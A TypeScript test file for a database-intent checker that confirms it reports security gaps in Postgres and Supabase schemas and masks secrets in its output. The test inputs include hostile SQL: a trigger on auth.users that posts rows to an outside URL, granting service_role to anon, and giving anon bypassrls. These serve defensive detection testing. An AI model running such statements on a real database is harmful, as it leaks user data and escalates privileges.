import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { acrossMajors } from '../src/intent/across-majors.ts';
import { intentFromSnapshot } from '../src/intent/from-snapshot.ts';
import type { Intent } from '../src/intent/intent.ts';
import { parseManifest } from '../src/intent/manifest/load.ts';
import { compareWithAnswers } from '../src/gap/answer.ts';
import { maskSecrets } from '../src/gap/mask.ts';
import { platformOf } from '../src/platform/platform.ts';
import { platformScripts } from '../src/platform/scripts.ts';
import { resolveSettings } from '../src/settings.ts';
import { Bench, compareWith } from './support/drift.ts';
import { type Engine, engines } from './support/engines.ts';
import { pgintent } from './support/run.ts';

/** Ways in which data got out without a gap, each found once: none may come back. */
describe('a manifest', () => {
  let engine: Engine;
  let bench: Bench;
  beforeAll(async () => {
    engine = await engines().at(-1)!.fresh();
    bench = await Bench.on(engine);
    await bench.exec(`
      create role leak_anon; create role leak_evil;
      create table public.t (id integer primary key, org_id integer, secret text);
      alter table public.t enable row level security;
    `);
  });
  afterAll(async () => {
    await bench.close();
    await engine.close();
  });

  const found = (manifest: string, sql: string): Promise<string[]> =>
    bench.undone(async () => {
      await bench.exec(sql);
      const { outcomes } = await compareWith(parseManifest(`pgintent: 1\n${manifest}`, 'intent.yaml'), await bench.snapshot());
      return outcomes.flatMap((outcome) =>
        outcome.verdict === 'held' ? [] : [`${outcome.key} ${outcome.verdict === 'gap' ? outcome.gap.verdict : outcome.verdict}`],
      );
    });

  test.for<[string, string, string, string[]]>([
    [
      'a check by name is not met by any check',
      'tables: { t: { checks: [{ name: positive }] } }',
      'alter table t add constraint junk check (id > -5)',
      ['check public.t.positive missing'],
    ],
    [
      'an index by name is not met by the primary key',
      'tables: { t: { indexes: [{ name: t_org }] } }',
      'select 1',
      ['index public.t.t_org missing'],
    ],
    [
      'exact grants see the columns',
      'tables: { t: { exact: [grants] } }',
      'grant select (secret) on t to leak_anon',
      ['grant column public.t.secret to leak_anon extra'],
    ],
    [
      'a policy without a command guards its WITH CHECK',
      'tables: { t: { policies: [{ using: org_id = id }] } }',
      'create policy p on t using (org_id = id) with check (true)',
      ['policy public.t for any command differs'],
    ],
    [
      'an exact set makes a gap of what is else a notice',
      'tables: { t: { exact: [indexes] } }',
      'create index extra_i on t (secret)',
      ['index public.t.extra_i extra'],
    ],
    [
      'public in lower case is PUBLIC',
      'tables: { t: { grants: { public: [] } } }',
      'grant select on t to public',
      ['grant table public.t to PUBLIC differs'],
    ],
  ])('%s', async ([, manifest, sql, gaps]) => {
    expect(await found(manifest, sql)).toEqual(gaps.map((gap) => expect.stringContaining(gap.replace(/ differs$/, ''))));
  });

  test('a policy without a command is met by one that repeats or lacks WITH CHECK', async () => {
    const manifest = 'tables: { t: { policies: [{ using: org_id = id }] } }';
    expect(await found(manifest, 'create policy p on t using (org_id = id)')).toEqual([]);
    expect(await found(manifest, 'create policy p on t for select using (org_id = id)')).toEqual([]);
  });
});

describe('a whole intent on Supabase', () => {
  let engine: Engine;
  let bench: Bench;
  let intent: Intent;
  beforeAll(async () => {
    engine = await engines().at(-1)!.fresh({ cluster: 'own' });
    bench = await Bench.on(engine);
    for (const { sql } of await platformScripts('supabase')) await bench.exec(sql);
    await bench.exec('create table public.t (id integer primary key, secret text); alter table public.t enable row level security');
    const before = await bench.snapshot();
    intent = intentFromSnapshot(before, platformOf(before), 'before');
  });
  afterAll(async () => {
    await bench.close();
    await engine.close();
  });

  const found = (sql: string): Promise<string[]> =>
    bench.undone(async () => {
      await bench.exec(sql);
      const after = await bench.snapshot();
      const platform = platformOf(after);
      after.strangers = platform.strangers;
      const { gaps } = await compareWithAnswers(acrossMajors(intent, after), after, { isUsers: platform.isUsers });
      return gaps.map(({ key, verdict, severity }) => `${severity} ${key} ${verdict}`);
    });

  test('holds as it was', async () => {
    expect(await found('select 1')).toEqual([]);
  });

  test.for<[string, RegExp]>([
    ['alter role anon bypassrls', /role anon differs/],
    ['grant service_role to anon', /role anon differs/],
    [
      `create trigger leak after insert on auth.users for each row execute function supabase_functions.http_request('https://x', 'POST', '{}', '{}', '1000')`,
      /trigger auth.users.leak extra/,
    ],
    ['drop publication supabase_realtime; create publication supabase_realtime for all tables', /publication supabase_realtime differs/],
    ['grant select on auth.users to anon', /grant table auth.users to anon extra/],
    ['create policy p on storage.objects for select using (true)', /policy storage.objects.p extra/],
    [
      'create table leak (a integer); alter table leak enable row level security; grant select on leak to anon; create policy p on leak for select to anon using (true)',
      /critical table public.leak extra/,
    ],
  ])('%s', async ([sql, gap]) => {
    expect((await found(sql)).join('\n')).toMatch(gap);
  });
});

describe('secrets inside the database', () => {
  const token = `eyJ${'a'.repeat(20)}.eyJ${'b'.repeat(20)}.${'c'.repeat(20)}`;
  test.for<[string, string]>([
    [`{"Authorization":"Bearer ${token}"}`, '{"Authorization":"Bearer ***"}'],
    [`select net.http_post('https://me:hunter22@example.com/')`, `select net.http_post('https://me:***@example.com/')`],
    ["key := 'sk_live_0123456789abcdef'", "key := '***'"],
    ["password => 'hunter22'", "password => '***'"],
    ['nothing to hide: eyes, tokens, Bearer of news', 'nothing to hide: eyes, tokens, Bearer of news'],
  ])('%s', ([text, masked]) => {
    expect(maskSecrets(text)).toBe(masked);
  });

  test('stand in no gap', async () => {
    const engine = await engines().at(-1)!.fresh();
    const bench = await Bench.on(engine);
    await bench.exec(
      `create table public.t (id integer); create function public.hook() returns trigger language plpgsql as $$ begin return new; end $$; create trigger h after insert on public.t for each row execute function public.hook('a')`,
    );
    const before = await bench.snapshot();
    await bench.exec(
      `drop trigger h on public.t; create trigger h after insert on public.t for each row execute function public.hook('Bearer ${token}'); create or replace function public.hook() returns trigger language plpgsql as $$ begin perform 'Bearer ${token}'; return new; end $$`,
    );
    const { gaps } = await compareWith(intentFromSnapshot(before, platformOf(before, 'postgres'), 'before'), await bench.snapshot());
    expect(gaps.map(({ key }) => key)).toEqual(
      ['trigger public.t.h', 'function public.hook()'].sort(
        (left, right) => gaps.findIndex(({ key }) => key === left) - gaps.findIndex(({ key }) => key === right),
      ),
    );
    expect(JSON.stringify(gaps)).not.toContain(token);
    await bench.close();
    await engine.close();
  });
});

describe('passwords', () => {
  test.for(['host=db user=postgres password=hunter2', 'postgres:/u:hunter2@h/db', 'u:hunter2@h/db'])(
    '%s is not repeated',
    async (database) => {
      const as = async (...args: string[]): Promise<string> => (await pgintent(args)).output;
      expect(await as('gaps', '--intent', 'examples/keys/intent.yaml', '--database', database)).not.toContain('hunter2');
      expect(await as('gaps', '--intent', database, '--database', 'postgres://x')).not.toContain('hunter2');
    },
  );

  test('a URL that kept its quotes or blanks is a URL', () => {
    expect(resolveSettings({ intent: 'x' }, { DATABASE_URL: ' "postgres://u:p@h/d"' }).database).toBe('postgres://u:p@h/d');
  });
});
